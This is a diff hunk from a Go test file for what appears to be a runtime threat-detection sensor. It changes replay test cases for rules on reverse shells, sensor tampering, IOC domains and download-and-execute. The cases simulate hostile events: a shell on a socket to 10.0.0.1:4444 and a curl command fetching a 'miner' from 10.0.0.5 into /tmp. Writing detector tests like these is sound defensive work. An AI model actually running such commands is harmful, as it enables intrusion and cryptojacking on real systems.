@@ -154,8 +154,8 @@ func replayCases() []replayCase {
 		{"reverse-shell: shell on a socket", []*api.Event{stdioExec(sh, "10.0.0.1", 4444, ctr)}, "reverse-shell", nil},
 		{"sensor-tamper: kill harrier", []*api.Event{signalEv("/bin/kill", 15)}, "sensor-tamper", nil},
 		{"no sensor-tamper: systemd stops harrier", []*api.Event{signalEv("/lib/systemd/systemd", 15, pid(1))}, "", []string{"sensor-tamper"}},
-		{"ioc-domain: test domain", []*api.Event{dnsEv("/usr/bin/curl", IOCTestDomain, ctr)}, "ioc-domain", nil},
-		{"ioc-domain: subdomain", []*api.Event{dnsEv("/usr/bin/curl", "a.b."+IOCTestDomain, ctr)}, "ioc-domain", nil},
+		{"ioc-domain: test domain", []*api.Event{dnsEv("/usr/bin/curl", api.IOCTestDomain, ctr)}, "ioc-domain", nil},
+		{"ioc-domain: subdomain", []*api.Event{dnsEv("/usr/bin/curl", "a.b."+api.IOCTestDomain, ctr)}, "ioc-domain", nil},
 		{"no ioc-domain", []*api.Event{dnsEv("/usr/bin/curl", "example.org", ctr)}, "", []string{"ioc-domain"}},
 		{"download-exec with chmod", []*api.Event{
 			execEv("/usr/bin/curl", []string{"curl", "-O", "http://10.0.0.5/dl/miner"}, ctr, cwd("/tmp")),
